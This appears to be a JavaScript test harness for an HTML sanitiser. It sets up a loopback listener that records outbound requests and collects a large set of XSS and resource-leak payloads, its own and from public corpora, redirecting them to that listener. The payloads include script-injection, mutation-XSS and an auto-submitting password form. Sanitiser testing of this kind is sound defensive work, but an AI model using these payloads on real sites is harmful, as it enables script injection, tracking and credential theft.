// What strangers put into HTML: the corpora's, where they are, and ours. Each is a document of its own, and whatever it would reach is
// led to a tripwire on loopback.
import { readFileSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { root } from "./lib.mjs";

const corpora = process.env.MALOTE_CORPORA ?? join(root, "../shared/corpora");
const read = (path) => {
	try {
		return readFileSync(join(corpora, "security", path), "utf8");
	} catch {
		console.log(`# SKIPPED: ${path} is not here (MALOTE_CORPORA)`);
		return null;
	}
};

/** A listener that only writes down what it is asked. */
export async function tripwire() {
	let asked = [];
	const server = createServer((socket) => {
		socket.once("data", (data) => {
			asked.push(data.subarray(0, 300).toString("latin1").split("\r\n").slice(0, 2).join(" "));
			socket.end("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
		});
		socket.on("error", () => {});
	});
	await new Promise((done) => server.listen(0, "127.0.0.1", done));
	return {
		port: server.address().port,
		/** What was asked since the last time. */
		visits() {
			const all = asked;
			asked = [];
			return all;
		},
		end: () => server.close(),
	};
}

/** Our own, about what mail apps were caught with; `T` is the tripwire. */
const OURS = [
	'<img src="http://T/img">',
	'<img srcset="http://T/srcset 2x" src="http://T/s">',
	'<picture><source srcset="http://T/p"><img></picture>',
	'<table background="http://T/table"><td background="http://T/td">x</table>',
	'<body background="http://T/body" onload="alert(1)">x',
	'<div style="background:url(http://T/css)">x</div>',
	"<div style=\"background:url('http://T/quoted')\">x</div>",
	'<div style="background:\\75rl(http://T/escaped)">x</div>',
	'<div style="background:u/**/rl(http://T/comment)">x</div>',
	"<div style=\"background-image:image-set('http://T/set' 1x)\">x</div>",
	'<div style="background-image:-webkit-image-set(url(http://T/wset) 1x)">x</div>',
	'<div style="content:url(http://T/content)">x</div>',
	'<ul style="list-style:url(http://T/list)"><li>x</ul>',
	'<div style="cursor:url(http://T/cursor),auto">x</div>',
	'<div style="filter:url(http://T/f#x);mask:url(http://T/m);clip-path:url(http://T/c)">x</div>',
	'<div style="--a:url(http://T/var);background:var(--a)">x</div>',
	'<div style="shape-outside:url(http://T/shape);float:left">x</div>',
	'<div style="border-image:url(http://T/border) 3">x</div>',
	'<div style="position:fixed;inset:0;background:red">over everything</div>',
	'<style>@import "http://T/import";</style>x',
	"<style>@import url(http://T/import2);body{background:url(http://T/sheet)}</style>x",
	"<style>@font-face{font-family:x;src:url(http://T/font)}*{font-family:x}</style>x",
	'<link rel="stylesheet" href="http://T/sheet.css">x',
	'<link rel="preload" as="image" href="http://T/preload"><link rel="prefetch" href="http://T/prefetch">x',
	'<link rel="dns-prefetch" href="//T"><link rel="preconnect" href="http://T">x',
	'<link rel="icon" href="http://T/icon"><link rel="manifest" href="http://T/manifest">x',
	'<meta http-equiv="refresh" content="0;url=http://T/refresh">x',
	'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">x',
	'<meta http-equiv="Content-Security-Policy" content="img-src *; report-uri http://T/report">x',
	'<base href="http://T/"><img src="relative"><a href="x">y</a>',
	'<iframe src="http://T/frame"></iframe><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
	'<object data="http://T/object"></object><embed src="http://T/embed"><applet code="http://T/applet"></applet>',
	'<video src="http://T/video" poster="http://T/poster" autoplay></video><audio src="http://T/audio" autoplay></audio>',
	'<video><source src="http://T/source"><track src="http://T/track" default></video>',
	'<input type="image" src="http://T/input"><button formaction="http://T/button">x</button>',
	'<form action="http://T/form" method="post"><input name="password" autofocus onfocus="this.form.submit()"></form>',
	'<svg><image href="http://T/svg"></image><use href="http://T/use#x"></use></svg>',
	'<svg onload="alert(1)"><script>alert(1)</script><animate onbegin="alert(1)" attributeName="x"></animate></svg>',
	"<svg><style>*{background:url(http://T/svgstyle)}</style><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
	"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
	'<select><template><style><!--</style><a rel="--></style></template></select><img id onerror=alert(1) src>">',
	'<xmp><p title="</xmp><img src onerror=alert(1)>">',
	'<textarea><p title="</textarea><img src onerror=alert(1)>">',
	"<plaintext><img src=x onerror=alert(1)>",
	"<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>-->",
	"<![CDATA[><img src=x onerror=alert(1)>]]>",
	'<a href="javascript:alert(1)">x</a><a href=" java\nscript:alert(1)">y</a><a href="&#1;javascript:alert(1)">z</a>',
	'<a href="data:text/html,<script>alert(1)</script>">x</a><a href="vbscript:msgbox(1)">y</a>',
	'<a href="http://T/ping" ping="http://T/pinged">x</a>',
	"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://T/datasvg'/></svg>\">",
	'<img src="data:text/html,<script>alert(1)</script>">',
	'<img src="//T/relative"><img src="\\\\T\\share"><img src="http:T/odd"><img src="HTTP://T/upper">',
	'<img src="ht&#10;tp://T/newline"><img src="&#104;ttp://T/entity">',
	"<img src=x onerror=alert(1)><img src=x oNeRrOr=alert(1)><img/src=x/onerror=alert(1)>",
	'<img src="x` `<script>alert(1)</script>"` `>',
	"<script>alert(1)</script><script src=http://T/script></script><ScRiPt >alert(1)</ScRiPt >",
	"<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
	"<div onmouseover=alert(1) onclick=alert(1) onanimationstart=alert(1) style=animation:x>x</div>",
	"<input autofocus onfocus=alert(1)><video onloadstart=alert(1)><source></video>",
	"<body onpageshow=alert(1) onresize=alert(1) onhashchange=alert(1)>x",
	'<img name="cookie"><form name="body"><input name="parentNode"></form><a id="getElementById">x</a>',
	'</body></html><script>alert(1)</script><img src="http://T/after">',
	"</iframe><script>alert(1)</script>",
	'" srcdoc="<script>alert(1)</script>" onload="alert(1)',
	"<a target=_top href=http://T/top>x</a><a target=_parent href=http://T/parent>y</a>",
	'<area href="javascript:alert(1)" shape="default"><map name="m"><area href="http://T/map"></map><img usemap="#m">',
	'<blockquote cite="http://T/cite">x</blockquote><q cite="http://T/q">y</q><del cite="http://T/del">z</del>',
	'<bgsound src="http://T/bgsound"><image src="http://T/image"><frameset><frame src="http://T/frameset"></frameset>',
	'<div style="width:expression(alert(1));behavior:url(http://T/htc);-moz-binding:url(http://T/xbl)">x</div>',
	'<portal src="http://T/portal"></portal><fencedframe src="http://T/fenced"></fencedframe>',
	'<template shadowrootmode="open"><img src="http://T/shadow"><script>alert(1)</script></template>',
	"<dialog open onclose=alert(1)>x</dialog><button popovertarget=x>y</button><div popover id=x onbeforetoggle=alert(1)>z</div>",
];

/** Everything, led to the tripwire; of the corpora's every `every`th. */
export function payloads(trap, every = 1) {
	const all = OURS.map((html) =>
		html
			.replaceAll("//T", `//${trap}`)
			.replaceAll("\\\\T", `\\\\${trap}`)
			.replaceAll("http:T", `http:${trap}`),
	);
	const some = (list) => list.filter((_, n) => n % every === 0);
	const lead = (html) =>
		html
			.replaceAll(/https?:\/\/[\w.-]+(:\d+)?/giu, `http://${trap}`)
			.replaceAll(/(["'(=])\/\/[\w.-]+/gu, `$1//${trap}`);
	const purify = read("dompurify/expect.json");
	if (purify) all.push(...some(JSON.parse(purify).map((x) => lead(x.payload))));
	const list = read("payloadbox-xss/Intruder/xss-payload-list.txt");
	if (list) all.push(...some(list.split("\n").filter(Boolean).map(lead)));
	const naughty = read("blns/blns.json");
	if (naughty) all.push(...some(JSON.parse(naughty).map(lead)));
	return all;
}

/** HTTPLeaks: whole, block by block, and each line for itself. */
export function leaks(trap) {
	const file = read("httpleaks/leak.html");
	if (!file) return { count: 0, documents: [] };
	const count = new Set(file.match(/leaking\.via\/[^"' )>;&]*/gu)).size;
	const led = file
		.replaceAll("https://leaking.via", `http://${trap}`)
		.replaceAll("%68ttps:%2f/leaking.via", `%68ttp:%2f/${trap}`)
		.replaceAll("leaking.via", trap);
	const lines = led.split("\n").filter((line) => line.includes(trap));
	return { count, documents: [led, ...led.split(/<!--\s*\n%/u), ...lines] };
}
